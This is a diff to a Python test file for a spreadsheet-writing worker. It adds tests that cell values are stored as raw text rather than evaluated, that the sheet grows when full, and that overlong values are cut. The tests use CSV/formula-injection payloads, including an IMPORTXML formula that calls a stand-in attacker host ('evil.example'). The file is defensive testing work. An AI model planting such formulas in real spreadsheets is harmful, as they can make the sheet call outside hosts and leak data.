@@ -281,12 +281,37 @@ def test_an_unshared_sheet_is_a_permanent_failure(sheets):
         sheet.upsert("2026-001", {})
 
 
-def test_values_are_written_as_text_never_as_formulas(sheets):
+@pytest.mark.parametrize("client", ['=IMPORTXML("https://evil.example","//a")', "+1+1", "-1+1", "@SUM(A1)",
+                                    "\t=1+1", "\r=1+1", "'=1"])
+def test_values_are_written_as_text_never_as_formulas(sheets, client):
     service, sheet = sheets
-    sheet.upsert("2026-002", {"client": '=IMPORTXML("https://evil.example","//a")', "due": "2026-12-01"})
+    sheet.upsert("2026-002", {"client": client, "due": "2026-12-01"})
     row = service.get_values("book", "Cases!A2:E2")["values"][0]
-    assert row[1].startswith("=IMPORTXML") and row[4] == "2026-12-01"
-    assert set(service.value_inputs) == {"RAW"}
+    assert row[1] == client and row[4] == "2026-12-01"
+    assert set(service.value_inputs) == {"RAW"}  # Sheets stores RAW input as it is: never parsed, never run
+
+
+def test_a_full_sheet_takes_more_rows_as_sheets_does(sheets):
+    service, sheet = sheets
+    sheet.upsert("2026-001", {"client": "ACME"})
+    service.books["book"]["sheets"][0].rows = 2  # the header and one case fill the grid
+    for case in ("2026-002", "2026-003"):
+        sheet.upsert(case, {"client": "ACME"})  # appended: Sheets adds the rows
+    assert [sheet.find(case).number for case in ("2026-001", "2026-002", "2026-003")] == [2, 3, 4]
+
+
+def test_a_value_longer_than_a_cell_takes_is_cut_and_one_refused_is_never_retried(sheets):
+    from ackflow.i18n import L_
+    from workers.office.sheet import CELL_LIMIT, _calls
+
+    service, sheet = sheets
+    row = sheet.upsert("2026-004", {"title": "件" * (CELL_LIMIT + 10)})
+    written = service.get_values("book", f"Cases!C{row.number}")["values"][0][0]
+    assert len(written) == CELL_LIMIT and written.endswith("…")
+    with pytest.raises(PermanentError, match="the case sheet refused it"):  # Sheets' 400: no retry fixes it
+        with _calls(L_("write the case sheet")):
+            sheet.worksheet().update([["x" * (CELL_LIMIT + 1)]], "Z9")
+    assert service.get_values("book", "Cases!Z9").get("values") is None
 
 
 def test_column_letters():
